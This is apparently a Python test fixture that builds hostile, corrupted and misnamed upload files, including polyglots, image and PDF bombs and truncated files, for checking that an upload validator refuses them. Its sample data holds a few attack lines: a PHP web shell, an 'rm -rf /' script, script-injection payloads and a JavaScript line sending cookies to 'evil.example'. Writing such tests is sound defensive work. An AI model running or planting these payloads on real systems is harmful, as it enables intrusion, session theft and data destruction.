"""Hostile, broken and misnamed uploads, several hundred, the same in every run.

`hostile_files()` yields (id, file name, bytes), and so does `good_files()`. Every hostile file must be refused with a
sentence: never taken, never an error of the program. The names are part of the hostility.
"""

import io
import random
import struct
import zlib
from collections.abc import Iterator

import pikepdf

from tests.good_papers import good_files
from tests.hostile_pdf import a_pdf, by_hand, hostile_pdfs, saved, zeros
from tests.samples import MOST, NAMES, SEED, File, chunk, drawn, header, jpeg, packed, pdf, picture_as, png, png_of, samsung, segment

__all__ = ["good_files", "hostile_files"]

PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(52) + b"\x80\x00\x00\x00This program cannot be run in DOS mode." + bytes(200)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
FILM = struct.pack(">I", 24) + b"ftypmp42" + bytes(12) + struct.pack(">I", 5000) + b"mdat" + bytes(4992)
OTHER: dict[str, bytes] = {
    "nothing": b"",
    "one-byte": b"%",
    "zeros": bytes(4096),
    "windows-program": PROGRAM,
    "linux-program": b"\x7fELF\x02\x01\x01" + bytes(120),
    "mac-program": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(100),
    "java-class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100),
    "shell-script": b"#!/bin/sh\nrm -rf /\n",
    "php": b"<?php system($_GET['c']); ?>",
    "javascript": b"fetch('https://evil.example/' + document.cookie)",
    "html": HTML,
    "svg": SVG,
    "xml-entities": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
    "text": "Өтініш беремін".encode(),
    "rtf": b"{\\rtf1\\ansi Declaration}",
    "word": packed("word/document.xml", b"<w:document/>"),
    "old-word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "zip": packed(),
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(60),
    "seven-zip": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60),
    "gzip": b"\x1f\x8b\x08\x00" + bytes(60),
    "heic": struct.pack(">I", 24) + b"ftypheic" + bytes(60),
    "film": FILM,
    "gif": picture_as("GIF"),
    "bmp": picture_as("BMP"),
    "tiff": picture_as("TIFF"),
    "webp": picture_as("WEBP"),
    "postscript": b"%!PS-Adobe-3.0\n(%stdin) run\n",
    "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
    "mail": b"From: a@example.kz\r\nContent-Type: text/html\r\n\r\n" + HTML,
    "header-of-pdf": b"%PDF-1.7",
    "header-of-jpeg": b"\xff\xd8\xff",
    "header-of-png": b"\x89PNG\r\n\x1a\n",
}


def misnamed() -> Iterator[tuple[str, str, bytes]]:
    for name, data in OTHER.items():
        for extension in ("pdf", "jpg", "png"):
            yield f"{name}-as-{extension}", f"{name}.{extension}", data


def cut_off() -> Iterator[tuple[str, bytes]]:
    """Good files that end too early, at places spread over their length."""
    whole = {"pdf": pdf(), "packed-pdf": saved(a_pdf(3), object_stream_mode=pikepdf.ObjectStreamMode.generate),
             "fast-pdf": saved(a_pdf(3), linearize=True), "jpeg": jpeg(), "progressive": jpeg(progressive=True), "png": png()}  # fmt: skip
    for name, data in whole.items():
        for part in (4, 9, 20, 60, 150, *(len(data) * tenth // 10 for tenth in range(1, 10)), len(data) - 12, len(data) - 8):
            yield f"{name}-cut-at-{part}", data[:part]


def glued() -> Iterator[tuple[str, bytes]]:
    """Two files in one."""
    parts = {
        "zip": packed(), "jar": packed("META-INF/MANIFEST.MF", b"Main-Class: run"), "program": PROGRAM, "html": HTML, "svg": SVG,
        "script": b"\n<?php system('id'); ?>", "rar": OTHER["rar"], "film": FILM, "text": b"\n\nsee also", "gif": OTHER["gif"],
    }  # fmt: skip
    for name, data in (("pdf", pdf()), ("jpeg", jpeg()), ("png", png())):
        for what, part in parts.items():
            yield f"{what}-behind-{name}", data + part
            yield f"{what}-before-{name}", part + data
    yield "pdf-behind-png", png() + pdf()
    yield "pdf-behind-jpeg", jpeg() + pdf()
    yield "png-behind-jpeg", jpeg() + png()
    yield "png-behind-pdf", pdf() + png()
    yield "zip-before-the-end-of-pdf", pdf()[:-6] + packed() + b"%%EOF\n"
    yield "zip-in-a-comment-of-jpeg", jpeg()[:2] + segment(0xFE, packed()) + jpeg()[2:]
    yield "pdf-in-a-comment-of-jpeg", jpeg()[:2] + segment(0xFE, pdf()[:200]) + jpeg()[2:]
    yield "html-in-a-comment-of-jpeg", jpeg()[:2] + segment(0xFE, HTML) + jpeg()[2:]
    yield "zip-in-a-chunk-of-png", png()[:33] + chunk(b"zzZz", packed()) + png()[33:]
    yield "pdf-in-a-chunk-of-png", png()[:33] + chunk(b"zzZz", pdf()[:200]) + png()[33:]
    yield "tar-in-pdf", (b"%PDF-1.7\n%" + b"x" * 247 + b"ustar").ljust(512, b" ") + pdf()[9:]
    yield "pdf-with-a-line-before", b"\n" + pdf()
    yield "pdf-with-a-mark-of-utf8-before", b"\xef\xbb\xbf" + pdf()


def pictures() -> Iterator[tuple[str, bytes]]:
    """Broken, moving and enormous ones."""
    rows = zlib.compress(b"".join(b"\0" + bytes(30) for _row in range(10)))
    body, tail = chunk(b"IDAT", rows), chunk(b"IEND", b"")
    yield "png-of-10-gigapixels", png_of(header(100_000, 100_000), body, tail)
    yield "png-of-the-largest-number", png_of(header(2**31 - 1, 2**31 - 1), body, tail)
    yield "png-of-41-megapixels", png_of(header(6410, 6410, 1, 0), chunk(b"IDAT", zlib.compress(bytes(6410 * 803))), tail)
    yield "png-without-width", png_of(header(0, 10), body, tail)
    yield "png-of-depth-3", png_of(header(10, 10, 3), body, tail)
    yield "png-of-colour-5", png_of(header(10, 10, 8, 5), body, tail)
    yield "png-without-rows", png_of(header(10, 10), tail)
    yield "png-without-end", png_of(header(10, 10), body)
    yield "png-without-header", png_of(body, tail)
    yield "png-with-two-headers", png_of(header(10, 10), header(20, 20), body, tail)
    yield "png-with-rubbish-rows", png_of(header(10, 10), chunk(b"IDAT", random.Random(SEED).randbytes(300)), tail)
    yield "png-with-a-text-bomb", png_of(header(10, 10), chunk(b"zTXt", b"a\0\0" + zeros(64)), body, tail)
    yield "png-with-a-profile-bomb", png_of(header(10, 10), chunk(b"iCCP", b"a\0\0" + zeros(1024)), body, tail)
    yield "png-of-a-million-chunks", png_of(header(10, 10), chunk(b"tEXt", b"a\0") * 600_000, body, tail)
    yield "png-with-more-behind-its-end", png() + chunk(b"tEXt", b"a\0b")
    yield "moving-png", moving_png()
    for number in range(12):
        data = bytearray(png())
        data[random.Random(number).randrange(8, len(data))] ^= 1 << number % 8
        yield f"png-with-a-turned-bit-{number}", bytes(data)
    start = jpeg().index(b"\xff\xc0")
    yield "jpeg-of-4-gigapixels", jpeg()[: start + 5] + b"\xff\xff\xff\xff" + jpeg()[start + 9 :]
    yield "jpeg-without-height", jpeg()[: start + 5] + b"\x00\x00" + jpeg()[start + 7 :]
    yield "jpeg-without-frame", jpeg().replace(b"\xff\xc0", b"\xff\xe5", 1)
    yield "jpeg-without-tables", b"".join((jpeg()[:2], jpeg()[jpeg().index(b"\xff\xda") :]))
    yield "jpeg-of-markers", b"\xff\xd8" + segment(0xE1, b"") * 2_000_000 + b"\xff\xd9"
    yield "jpeg-of-ff", b"\xff\xd8" + b"\xff" * (9 * 2**20) + b"\xff\xd9"
    yield "jpeg-of-scan-bytes", jpeg()[:-2] + b"\xff\x00" * (4 * 2**20)
    yield "jpeg-of-previews", jpeg() + jpeg() * 30
    yield "jpeg-of-endless-scans", endless_scans()
    yield "motion-photo", jpeg() + FILM
    yield "motion-photo-of-samsung", jpeg() + samsung(b"MotionPhoto_Data", FILM)
    yield "samsung-with-a-program", jpeg() + PROGRAM + samsung(b"Image_UTC_Data", b"1762676400000")


def moving_png() -> bytes:
    output = io.BytesIO()
    drawn().save(output, "PNG", save_all=True, append_images=[drawn("L").convert("RGB").rotate(90)], duration=500)
    return output.getvalue()


def endless_scans() -> bytes:
    """A small file that asks to decode a large picture thousands of times: its last scan comes again and again."""
    data = jpeg(progressive=True)
    frame, last = data.index(b"\xff\xc2"), data.rindex(b"\xff\xda")
    again = data[last : last + 2 + int.from_bytes(data[last + 2 : last + 4], "big")] + b"\0"
    return data[: frame + 5] + b"\x08\x00\x08\x00" + data[frame + 9 : -2] + again * 15_000 + b"\xff\xd9"


def noise() -> Iterator[tuple[str, bytes]]:
    """Rubbish behind a right beginning, and good PDFs with rubbish inside the structure."""
    for number in range(4):
        chance = random.Random(SEED + number)
        yield f"noise-pdf-{number}", b"%PDF-1.4\n" + chance.randbytes(3000) + b"\n%%EOF\n"
        yield f"noise-jpeg-{number}", b"\xff\xd8\xff\xe0" + chance.randbytes(3000) + b"\xff\xd9"
        yield f"noise-png-{number}", b"\x89PNG\r\n\x1a\n" + chance.randbytes(3000)
        lines = pdf().split(b"\n")
        chance.shuffle(lines)
        yield f"shuffled-pdf-{number}", b"%PDF-1.4\n" + b"\n".join(lines) + b"\n%%EOF\n"


def too_large() -> Iterator[tuple[str, bytes]]:
    yield "pdf-one-byte-too-large", by_hand(b"<<>>") .ljust(MOST + 1, b"\n")  # fmt: skip
    yield "jpeg-too-large", jpeg()[:2] + segment(0xFE, bytes(65_000)) * 170 + jpeg()[2:]
    yield "zeros-too-large", bytes(MOST + 4096)


def hostile_files() -> Iterator[File]:
    yield from misnamed()
    number = 0
    for source, extension in ((cut_off, ""), (glued, ""), (pictures, ""), (noise, ""), (too_large, ""), (hostile_pdfs, ".pdf")):
        for name, data in source():
            number += 1
            yield name, NAMES[number % len(NAMES)] if number % 2 else f"{name}{extension}", data
